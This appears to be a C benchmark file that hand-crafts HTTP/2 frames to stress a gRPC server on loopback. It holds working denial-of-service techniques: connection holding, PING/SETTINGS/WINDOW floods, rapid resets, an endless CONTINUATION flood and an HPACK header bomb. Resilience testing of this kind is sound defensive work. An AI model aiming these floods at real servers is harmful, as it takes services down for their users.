// An attack greets as HTTP/2 does and then sends one chunk of frames again and again, or opens many
// connections and keeps them. Frames are made by hand: a library would not send these. Failures end
// a connection, never the attack: being cut off is what the server should do.
#include "bench/attack.h"

#include <arpa/inet.h>
#include <signal.h>
#include <stdbool.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include "base/assert.h"

#define CHUNK_BYTES  (64u << 10)
#define HELD_MAX     2000u
#define HOLD_S       5u // then all are closed, and opened anew
#define PREFACE      "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
#define CHECK_PATH   "/grpc.health.v1.Health/Check"
#define END_HEADERS  4u
#define BOMB_BYTES   3900u
#define BOMB_INDEXED 62u // the newest entry of the dynamic table
#define NICENESS     19

enum frame_type {
    FRAME_HEADERS = 1,
    FRAME_RST = 3,
    FRAME_SETTINGS = 4,
    FRAME_PING = 6,
    FRAME_WINDOW = 8,
    FRAME_CONTINUATION = 9,
};

struct chunk {
    unsigned char bytes[CHUNK_BYTES];
    uint32_t size;
};

struct jf_attack {
    const char *name;
    // What follows the greeting, once; may be NULL.
    void (*open)(struct chunk *chunk);
    // What is sent again and again; `round` counts from 0. NULL: the connection is kept instead.
    void (*next)(struct chunk *chunk, uint32_t round);
    uint32_t connections; // kept at a time; 0: they are dropped at once
};

static void put(struct chunk *chunk, const void *bytes, uint32_t size)
{
    JF_ASSERT(size <= CHUNK_BYTES - chunk->size);
    memcpy(chunk->bytes + chunk->size, bytes, size);
    chunk->size += size;
}

static void put_frame(struct chunk *chunk, enum frame_type type, unsigned flags, uint32_t stream,
                      uint32_t size)
{
    const unsigned char header[9] = {
        (unsigned char)(size >> 16),   (unsigned char)(size >> 8),   (unsigned char)size,
        (unsigned char)type,           (unsigned char)flags,         (unsigned char)(stream >> 24),
        (unsigned char)(stream >> 16), (unsigned char)(stream >> 8), (unsigned char)stream};
    put(chunk, header, sizeof(header));
}

// A header that is not indexed, of less than 127 bytes each.
static void put_header(struct chunk *chunk, const char *name, const char *value)
{
    unsigned char sizes[2] = {(unsigned char)strlen(name), (unsigned char)strlen(value)};
    put(chunk, "\x10", 1);
    put(chunk, &sizes[0], 1);
    put(chunk, name, sizes[0]);
    put(chunk, &sizes[1], 1);
    put(chunk, value, sizes[1]);
}

static void put_request(struct chunk *chunk)
{
    put_header(chunk, ":method", "POST");
    put_header(chunk, ":scheme", "http");
    put_header(chunk, ":path", CHECK_PATH);
    put_header(chunk, ":authority", "bench");
    put_header(chunk, "te", "trailers");
    put_header(chunk, "content-type", "application/grpc");
}

static void put_call(struct chunk *chunk, unsigned flags, uint32_t stream)
{
    static struct chunk block;
    block.size = 0;
    put_request(&block);
    put_frame(chunk, FRAME_HEADERS, flags, stream, block.size);
    put(chunk, block.bytes, block.size);
}

static void pings(struct chunk *chunk, uint32_t round)
{
    (void)round;
    for (uint32_t i = 0; i < 1000; i++) {
        put_frame(chunk, FRAME_PING, 0, 0, 8);
        put(chunk, "jifen...", 8);
    }
}

static void settings(struct chunk *chunk, uint32_t round)
{
    (void)round;
    for (uint32_t i = 0; i < 1000; i++) {
        put_frame(chunk, FRAME_SETTINGS, 0, 0, 6);
        put(chunk, "\0\4\0\0\xff\xff", 6);
    }
}

static void windows(struct chunk *chunk, uint32_t round)
{
    (void)round;
    for (uint32_t i = 0; i < 1000; i++) {
        put_frame(chunk, FRAME_WINDOW, 0, 0, 4);
        put(chunk, "\0\0\0\1", 4);
    }
}

static void resets(struct chunk *chunk, uint32_t round)
{
    for (uint32_t i = 0; i < 100; i++) {
        uint32_t stream = (round * 100 + i) * 2 + 1;
        put_call(chunk, END_HEADERS, stream);
        put_frame(chunk, FRAME_RST, 0, stream, 4);
        put(chunk, "\0\0\0\x08", 4);
    }
}

static void continuations_open(struct chunk *chunk)
{
    put_call(chunk, 0, 1);
}

static void continuations(struct chunk *chunk, uint32_t round)
{
    (void)round;
    for (uint32_t i = 0; i < 1000; i++) {
        put_frame(chunk, FRAME_CONTINUATION, 0, 1, 0);
    }
}

// One header of nearly 4 KiB is indexed, and then named by a byte ten thousand times.
static void bombs(struct chunk *chunk, uint32_t round)
{
    static struct chunk block;
    block.size = 0;
    put_request(&block);
    const uint32_t extra = BOMB_BYTES - 127;
    const unsigned char head[] = {0x40,
                                  4,
                                  'b',
                                  'o',
                                  'm',
                                  'b',
                                  0x7f,
                                  (unsigned char)(extra % 128 + 128),
                                  (unsigned char)(extra / 128)};
    put(&block, head, sizeof(head));
    memset(block.bytes + block.size, 'b', BOMB_BYTES);
    block.size += BOMB_BYTES;
    memset(block.bytes + block.size, 0x80 | (int)BOMB_INDEXED, 10000);
    block.size += 10000;
    put_frame(chunk, FRAME_HEADERS, END_HEADERS, round * 2 + 1, block.size);
    put(chunk, block.bytes, block.size);
}

// Headers that stop in their midst.
static void half_open(struct chunk *chunk)
{
    put_call(chunk, END_HEADERS, 1);
    chunk->size -= 10;
}

static const struct jf_attack attacks[] = {
    {"idle", NULL, NULL, HELD_MAX},   {"half_requests", half_open, NULL, HELD_MAX},
    {"dropped", half_open, NULL, 0},  {"pings", NULL, pings, 1},
    {"settings", NULL, settings, 1},  {"windows", NULL, windows, 1},
    {"resets", NULL, resets, 1},      {"continuations", continuations_open, continuations, 1},
    {"header_bombs", NULL, bombs, 1},
};

const struct jf_attack *jf_attack_at(uint32_t index)
{
    return index < sizeof(attacks) / sizeof(attacks[0]) ? &attacks[index] : NULL;
}

const char *jf_attack_name(const struct jf_attack *attack)
{
    return attack->name;
}

static bool send_all(int fd, const struct chunk *chunk)
{
    for (uint32_t sent = 0; sent < chunk->size;) {
        ssize_t size = send(fd, chunk->bytes + sent, chunk->size - sent, MSG_NOSIGNAL);
        if (size <= 0) {
            return false;
        }
        sent += (uint32_t)size;
    }
    return true;
}

// Returns: a connection that has greeted, or -1.
static int greet(const struct jf_attack *attack, uint16_t port)
{
    static struct chunk chunk;
    const struct sockaddr_in address = {
        .sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    chunk.size = 0;
    put(&chunk, PREFACE, sizeof(PREFACE) - 1);
    put_frame(&chunk, FRAME_SETTINGS, 0, 0, 0);
    if (attack->open != NULL) {
        attack->open(&chunk);
    }
    if (fd < 0 || connect(fd, (const struct sockaddr *)&address, sizeof(address)) != 0 ||
        !send_all(fd, &chunk)) {
        (void)close(fd);
        return -1;
    }
    return fd;
}

static void flood_once(const struct jf_attack *attack, uint16_t port)
{
    static struct chunk chunk;
    int fd = greet(attack, port);
    for (uint32_t round = 0; fd >= 0; round++) {
        chunk.size = 0;
        attack->next(&chunk, round);
        if (!send_all(fd, &chunk)) {
            break;
        }
    }
    (void)close(fd);
}

static void hold_once(const struct jf_attack *attack, uint16_t port)
{
    static int held[HELD_MAX];
    JF_ASSERT(attack->connections <= HELD_MAX);
    for (uint32_t i = 0; i < attack->connections; i++) {
        held[i] = greet(attack, port);
    }
    (void)sleep(HOLD_S);
    for (uint32_t i = 0; i < attack->connections; i++) {
        (void)close(held[i]);
    }
}

static void attack_for_ever(const struct jf_attack *attack, uint16_t port)
{
    for (;;) {
        if (attack->next != NULL) {
            flood_once(attack, port);
        } else if (attack->connections > 0) {
            hold_once(attack, port);
        } else {
            (void)close(greet(attack, port));
        }
    }
}

pid_t jf_attack_start(const struct jf_attack *attack, uint16_t port)
{
    pid_t pid = fork();
    if (pid != 0) {
        return pid;
    }
    (void)prctl(PR_SET_PDEATHSIG, SIGKILL);
    (void)signal(SIGINT, SIG_DFL);
    (void)setpriority(PRIO_PROCESS, 0, NICENESS);
    struct rlimit limit;
    if (getrlimit(RLIMIT_NOFILE, &limit) == 0) {
        limit.rlim_cur = limit.rlim_max;
        (void)setrlimit(RLIMIT_NOFILE, &limit);
    }
    attack_for_ever(attack, port);
    _exit(0);
}

void jf_attack_stop(pid_t pid)
{
    (void)kill(pid, SIGKILL);
    (void)waitpid(pid, NULL, 0);
}
